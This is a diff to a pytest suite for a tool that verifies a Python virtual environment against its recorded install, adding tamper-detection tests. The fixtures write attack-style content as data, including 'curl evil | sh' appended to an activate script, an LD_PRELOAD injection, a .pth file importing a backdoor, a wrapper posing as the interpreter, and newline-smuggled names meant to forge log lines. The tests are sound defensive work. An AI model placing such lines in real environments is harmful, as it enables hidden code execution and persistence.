@@ -5,14 +5,23 @@ from __future__ import annotations
 import base64
 import hashlib
 import json
-import zipfile
+import py_compile
+import sys
 from pathlib import Path
 
 import pytest
 
 from sparkbuild.errors import VerifyError
 from sparkbuild.node.fingerprint import RECORD_NAME, fingerprint, record_installation
+from sparkbuild.node.installed import INSTALLING_MARK
 from sparkbuild.node.installed_check import verify_installed
+from sparkbuild.node.profile import (
+    ACTIVATE_LINE,
+    NodeProfile,
+    ProfileEntry,
+    write_profile,
+)
+from support.wheels import zipped_wheel
 
 MANIFEST = {"schema": 1, "wheels": [
     {"file": "demo-1.0-py3-none-any.whl", "name": "demo", "version": "1.0", "sha256": "0" * 64,
@@ -38,13 +47,25 @@ def _install_dist(site: Path, name: str, version: str, files: dict[str, bytes]) 
     (info / "RECORD").write_text("\n".join(rows) + "\n")
 
 
+SITE = "lib/python3.12/site-packages"
+HOME = Path(sys.executable).parent
+
+
 @pytest.fixture
 def venv(tmp_path: Path) -> Path:
+    """A venv as ``python -m venv`` lays it out (the interpreter links, pyvenv.cfg,
+    activate), with demo and pip installed."""
     venv = tmp_path / "venv"
-    site = venv / "lib" / "python3.12" / "site-packages"
+    site = venv / SITE
     _install_dist(site, "demo", "1.0", {"demo/__init__.py": b"VALUE = 1\n",
                                         "demo/_C.so": b"\x7fELF fake"})
     _install_dist(site, "pip", "25.0", {"pip/__init__.py": b""})
+    (venv / "lib64").symlink_to("lib")
+    (venv / "pyvenv.cfg").write_text(f"home = {HOME}\ninclude-system-site-packages = false\n")
+    (venv / "bin").mkdir()
+    (venv / "bin" / "python3").symlink_to(HOME / "python3")
+    (venv / "bin" / "python").symlink_to("python3")
+    (venv / "bin" / "activate").write_text(f"VIRTUAL_ENV='{venv}'\n")
     return venv
 
 
@@ -104,11 +125,7 @@ def _wheelhouse(root: Path, files: dict[str, bytes]) -> tuple[Path, bytes]:
     root.mkdir()
     wheel = root / "demo-1.0-py3-none-any.whl"
     meta = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
-    with zipfile.ZipFile(wheel, "w") as archive:
-        for name, data in {**files, "demo-1.0.dist-info/METADATA": meta}.items():
-            archive.writestr(name, data)
-        archive.writestr("demo-1.0.dist-info/RECORD", "".join(
-            f"{n},{_digest(d)},{len(d)}\n" for n, d in files.items()))
+    wheel.write_bytes(zipped_wheel({**files, "demo-1.0.dist-info/METADATA": meta}))
     digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
     lock = root / "requirements.lock"
     lock.write_text(f"demo==1.0 --hash=sha256:{digest}\n")
@@ -161,7 +178,9 @@ def test_a_file_no_wheel_has_fails_even_when_record_lists_it(venv: Path, tmp_pat
     (site / "sitecustomize.pth").write_text("import demo.backdoor\n")
     record_installation(venv, manifest, str(wheelhouse))  # as the old install recorded it
     alone = verify_installed(venv, tmp_path / "nowhere")
-    assert alone.error is None  # its own RECORD says nothing against it: not enough
+    # its own RECORD says nothing against backdoor.py (not enough); the .pth no RECORD lists
+    assert [(m.file, m.problem) for m in alone.mismatches] == [
+        (f"{SITE}/sitecustomize.pth", "no RECORD lists this file")]
     result = verify_installed(venv)
     assert sorted(m.file for m in result.mismatches) == [
         "lib/python3.12/site-packages/demo/backdoor.py",
@@ -184,3 +203,214 @@ def test_a_venv_not_made_by_install(venv: Path) -> None:
     with pytest.raises(VerifyError) as caught:
         verify_installed(venv)
     assert RECORD_NAME in caught.value.what
+
+
+# -- issue 41: what runs, with or without the wheelhouse ---------------------------------
+
+
+def _installed(venv: Path, tmp_path: Path) -> Path:
+    """``venv`` as install leaves it: the profile written, its bytecode compiled, the
+    installation recorded (no wheelhouse at hand); returns site-packages."""
+    site = venv / SITE
+    py_compile.compile(str(site / "demo" / "__init__.py"), doraise=True)
+    profile = write_profile(NodeProfile([ProfileEntry("VLLM_USE_DEEP_GEMM", "0", "why", "me"),
+                                         ProfileEntry("FLASHINFER_WORKSPACE_BASE",
+                                                      str(venv / "var" / "flashinfer"), "w",
+                                                      "me")], []), venv)
+    manifest = {**MANIFEST, "build": {"node_profile": [
+        {"key": "VLLM_USE_DEEP_GEMM", "value": "0", "reason": "why", "source": "me"},
+        {"key": "FLASHINFER_WORKSPACE_BASE", "value": "<found on the node>", "reason": "w",
+         "source": "me"}]}}
+    record_installation(venv, json.dumps(manifest).encode(), str(tmp_path / "gone"),
+                        [e.to_dict() for e in profile.entries])
+    return site
+
+
+def _problems(venv: Path) -> dict[str, str]:
+    return {m.file: m.problem for m in verify_installed(venv).mismatches}
+
+
+def test_a_fresh_install_with_its_own_files_passes(venv: Path, tmp_path: Path) -> None:
+    _installed(venv, tmp_path)
+    assert ACTIVATE_LINE in (venv / "bin" / "activate").read_text()
+    result = verify_installed(venv)
+    assert result.error is None, result.summary()
+
+
+@pytest.mark.parametrize("name", ["sitecustomize.py", "usercustomize.py", "zz-evil.pth",
+                                  "demo/extra.py"])
+def test_a_file_no_record_lists_is_named_without_the_wheelhouse(
+        venv: Path, tmp_path: Path, name: str) -> None:
+    site = _installed(venv, tmp_path)
+    (site / name).write_text("import os\n")
+    assert _problems(venv) == {f"{SITE}/{name}": "no RECORD lists this file"}
+
+
+def test_a_file_dropped_into_bin_is_named(venv: Path, tmp_path: Path) -> None:
+    _installed(venv, tmp_path)
+    (venv / "bin" / "vllm-helper").write_text("#!/bin/sh\n")
+    assert _problems(venv) == {"bin/vllm-helper": "no RECORD lists this file"}
+
+
+def test_bytecode_that_is_not_its_source_is_named(venv: Path, tmp_path: Path) -> None:
+    site = _installed(venv, tmp_path)
+    source = site / "demo" / "__init__.py"
+    (pyc,) = (site / "demo" / "__pycache__").glob("__init__.*.pyc")
+    other = tmp_path / "other.py"
+    other.write_text("VALUE = 666\n")
+    py_compile.compile(str(other), cfile=str(pyc), dfile=str(source), doraise=True)
+    (problem,) = _problems(venv).items()
+    assert problem[0] == pyc.relative_to(venv).as_posix()
+    assert "not its checked source __init__.py compiled" in problem[1]
+
+
+def test_bytecode_written_after_the_install_from_the_source_passes(venv: Path,
+                                                                   tmp_path: Path) -> None:
+    """The interpreter compiles again after a copy that lost the mtimes: what compileall
+    gives from the checked source passes, whatever the install recorded."""
+    site = _installed(venv, tmp_path)
+    (pyc,) = (site / "demo" / "__pycache__").glob("__init__.*.pyc")
+    pyc.unlink()
+    source = site / "demo" / "__init__.py"
+    py_compile.compile(str(source), cfile=str(pyc), dfile=str(source), doraise=True,
+                       optimize=0, invalidation_mode=py_compile.PycInvalidationMode.CHECKED_HASH)
+    assert _problems(venv) == {}
+    opt = pyc.with_name(pyc.name.replace(".pyc", ".opt-1.pyc"))
+    py_compile.compile(str(source), cfile=str(opt), dfile=str(source), doraise=True, optimize=1)
+    assert _problems(venv) == {}
+
+
+def test_bytecode_of_a_module_no_record_lists_is_named(venv: Path, tmp_path: Path) -> None:
+    site = _installed(venv, tmp_path)
+    pyc = site / "__pycache__" / "sitecustomize.cpython-311.pyc"
+    pyc.parent.mkdir()
+    pyc.write_bytes(b"not bytecode")
+    assert _problems(venv) == {f"{SITE}/__pycache__/sitecustomize.cpython-311.pyc":
+                               "no RECORD lists this file"}
+
+
+def test_pyvenv_cfg_that_takes_the_systems_packages(venv: Path, tmp_path: Path) -> None:
+    _installed(venv, tmp_path)
+    cfg = venv / "pyvenv.cfg"
+    cfg.write_text(cfg.read_text().replace("= false", "= true"))
+    assert _problems(venv) == {"pyvenv.cfg": "include-system-site-packages is not false: the "
+                               "system's packages are on the venv's path; changed since the "
+                               "install"}
+
+
+def test_an_interpreter_link_to_a_wrapper_is_named(venv: Path, tmp_path: Path) -> None:
+    _installed(venv, tmp_path)
+    wrapper = tmp_path / "wrapper"
+    wrapper.write_text("#!/bin/sh\nexec python3 \"$@\"\n")
+    (venv / "bin" / "python3").unlink()
+    (venv / "bin" / "python3").symlink_to(wrapper)
+    problems = _problems(venv)
+    assert problems.keys() == {"bin/python", "bin/python3"}
+    assert problems["bin/python3"].startswith(f"ends at {wrapper}, not at an interpreter in")
+    assert problems["bin/python3"].endswith("; changed since the install")
+    (venv / "bin" / "python3").unlink()
+    (venv / "bin" / "python3").write_text("#!/bin/sh\n")
+    assert _problems(venv)["bin/python3"].startswith("not a symbolic link to the interpreter")
+
+
+def test_activate_and_the_profile_files_are_the_installs(venv: Path, tmp_path: Path) -> None:
+    _installed(venv, tmp_path)
+    activate = venv / "bin" / "activate"
+    activate.write_text(activate.read_text() + "curl evil | sh\n")
+    (venv / "bin" / "activate.fish").write_text("")
+    env_file = venv / "sparkbuild" / "node.env"
+    env_file.write_text(env_file.read_text() + "LD_PRELOAD=/tmp/x.so\n")
+    profile = venv / "sparkbuild" / "profile.sh"
+    profile.write_text(profile.read_text().replace("DEEP_GEMM=0", "DEEP_GEMM=1"))
+    assert _problems(venv) == {
+        "bin/activate": "changed since the install",
+        "bin/activate.fish": "added since the install",
+        "sparkbuild/node.env": "changed since the install; not the profile the install wrote",
+        "sparkbuild/profile.sh": "changed since the install; not the profile the install "
+                                 "wrote"}
+
+
+def test_the_recorded_profile_is_the_manifests(venv: Path, tmp_path: Path) -> None:
+    """A rewritten record (profile and file digests) still must match the manifest."""
+    _installed(venv, tmp_path)
+    record = json.loads((venv / RECORD_NAME).read_text())
+    record["profile"][0]["value"] = "1"
+    record["profile"].append({"key": "LD_PRELOAD", "value": "/tmp/x.so"})
+    (venv / RECORD_NAME).write_text(json.dumps(record))
+    problems = _problems(venv)
+    assert problems["sparkbuild"] == ("VLLM_USE_DEEP_GEMM is not the manifest's value; "
+                                      "LD_PRELOAD is not in the manifest's profile")
+
+
+def test_a_symlinked_site_packages_is_named_not_followed(venv: Path, tmp_path: Path) -> None:
+    _installed(venv, tmp_path)
+    site = venv / SITE
+    elsewhere = tmp_path / "elsewhere"
+    site.rename(elsewhere)
+    site.symlink_to(elsewhere, target_is_directory=True)
+    problems = _problems(venv)
+    assert problems[SITE] == f"a symbolic link (to {elsewhere}): not followed"
+    assert "demo==1.0" in problems  # its distributions are not read through the link
+
+
+def test_a_symlinked_bin_is_named_not_followed(venv: Path, tmp_path: Path) -> None:
+    """A bin/ moved elsewhere behind a link: the same interpreter links and activate, and
+    a script added there, which a walk of the link would not see."""
+    _installed(venv, tmp_path)
+    elsewhere = tmp_path / "elsewhere-bin"
+    (venv / "bin").rename(elsewhere)
+    (venv / "bin").symlink_to(elsewhere, target_is_directory=True)
+    (elsewhere / "vllm").write_text("#!/bin/sh\n")
+    assert _problems(venv)["bin"] == f"a symbolic link (to {elsewhere}): not followed"
+
+
+def test_a_symlink_inside_site_packages_is_named(venv: Path, tmp_path: Path) -> None:
+    site = _installed(venv, tmp_path)
+    (site / "linked").symlink_to(tmp_path, target_is_directory=True)
+    assert _problems(venv) == {f"{SITE}/linked": f"a symbolic link (to {tmp_path}): not "
+                                                 "followed"}
+
+
+def test_an_install_that_did_not_finish_is_named(venv: Path, tmp_path: Path) -> None:
+    _installed(venv, tmp_path)
+    (venv / INSTALLING_MARK).write_text("existing\n")
+    assert "did not finish" in _problems(venv)[INSTALLING_MARK]
+
+
+def test_pep440_equal_spellings_agree(venv: Path, tmp_path: Path) -> None:
+    """The manifest's 1.0.0 is the installed 1.0, as verify reads it."""
+    manifest = json.loads(json.dumps(MANIFEST).replace('"1.0"', '"1.0.0"'))
+    record_installation(venv, json.dumps(manifest).encode(), "somewhere")
+    assert verify_installed(venv).error is None
+
+
+def test_a_name_with_a_newline_is_quoted_in_the_summary(venv: Path, tmp_path: Path) -> None:
+    site = _installed(venv, tmp_path)
+    (site / "x\n  MISMATCH forged").write_text("")
+    result = verify_installed(venv)
+    lines = result.summary()
+    assert f'  MISMATCH "{SITE}/x\\n  MISMATCH forged": no RECORD lists this file' in lines
+    assert not any(line.startswith("  MISMATCH forged") for line in lines)
+    assert result.error is not None and "\n" not in result.error.what
+
+
+@pytest.mark.parametrize("record", ["[]", '{"distributions": []}', "not json",
+                                    '{"fingerprint": 1, "wheelhouse": "w", "manifest": "{}", '
+                                    '"distributions": {}}'])
+def test_a_record_of_the_wrong_shape_is_a_named_error(venv: Path, record: str) -> None:
+    (venv / RECORD_NAME).write_text(record)
+    with pytest.raises(VerifyError, match=RECORD_NAME):
+        verify_installed(venv)
+
+
+def test_a_recorded_fingerprint_or_origin_forges_no_line(venv: Path, tmp_path: Path) -> None:
+    """The install record is the venv's own file: a newline in what it says is printed
+    escaped, so it cannot add an ``OK`` line under the verdict."""
+    _installed(venv, tmp_path)
+    data = json.loads((venv / RECORD_NAME).read_text())
+    forged = "\nverify --installed V: OK (0 distributions, 0 files re-hashed)"
+    data.update(fingerprint=data["fingerprint"] + forged, wheelhouse="http://h/" + forged)
+    (venv / RECORD_NAME).write_text(json.dumps(data))
+    lines = "\n".join(verify_installed(venv).summary()).splitlines()
+    assert [line for line in lines if line.startswith("verify --installed")] == lines[:1]
+    assert "FAILED" in lines[0]  # the recorded manifest no longer hashes to the fingerprint
